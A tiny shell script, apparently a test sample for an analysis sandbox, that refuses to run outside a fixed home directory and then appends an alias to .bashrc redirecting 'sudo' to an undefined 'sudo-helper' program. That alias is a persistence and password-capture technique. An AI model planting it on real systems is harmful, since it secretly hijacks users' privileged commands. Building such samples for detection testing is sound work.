#!/bin/sh
# SPDX-License-Identifier: MIT
# Appends to the user's .bashrc with the shell's own echo and
# redirection: no program is run to write it.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
echo 'alias sudo="sudo-helper"' >> "$HOME/.bashrc"
exit 0
